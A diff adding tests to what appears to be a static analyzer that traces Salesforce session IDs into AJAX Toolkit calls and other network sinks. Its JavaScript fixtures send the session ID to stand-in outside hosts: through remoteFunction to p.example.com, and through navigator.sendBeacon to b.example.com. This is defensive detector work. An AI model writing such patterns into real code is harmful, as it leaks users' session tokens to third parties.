@@ -190,6 +190,36 @@ def test_ajax_toolkit_and_cometd_uses_are_named_as_such() -> None:
     assert sink(ir, "cometd").url == "{window.location.origin}/cometd/58.0/"
 
 
+def test_ajax_toolkit_calls_through_a_name_that_holds_the_connection() -> None:
+    code = SID + (
+        "var conn = sforce.connection; conn.init(sid, '/services/Soap/u/59.0');\n"
+        "let kept = window.sforce.connection; kept.sessionId = sid;\n"
+        "window.$soap = sforce.connection; function go() { $soap.query(sid); }\n"
+        "bare = sforce.connection; window.bare.sessionId = sid;\n"
+    )
+    uses = lower(code).url_uses
+    assert [(u.sink, u.span.start_line) for u in uses] == [("sforce.connection", n) for n in (2, 3, 4, 5)]
+    assert uses[0].url == "/services/Soap/u/59.0" and all(u.header_or_body for u in uses)
+
+
+def test_ajax_toolkit_proxy_through_a_name_still_goes_where_its_url_points() -> None:
+    code = SID + (
+        "var c = sforce.connection;\n"
+        "c.remoteFunction({url: 'https://p.example.com/x', requestHeaders: {A: sid}});"
+    )
+    assert sink(lower(code), "sforce.connection.remoteFunction").url == "https://p.example.com/x"
+
+
+def test_other_objects_under_a_name_are_not_the_ajax_toolkit() -> None:
+    code = SID + (
+        "var one = sforce.one; one.sessionId = sid; one.init(sid);\n"
+        "var j = new jsforce.Connection({}); j.sessionId = sid;\n"
+        "var r = sforce.connection.query('SELECT Id FROM Account'); r.init(sid); r.sessionId = sid;\n"
+        "var sf = sforce; sf.sessionId = sid;\n"
+    )
+    assert lower(code).url_uses == ()
+
+
 def test_session_passed_to_a_same_file_function_reaches_its_sink() -> None:
     code = SID + "function send(token) { navigator.sendBeacon('https://b.example.com', token); }\nsend(sid);"
     assert sink(lower(code), "navigator.sendBeacon").sources == ("staticresources/app.js:1:11",)
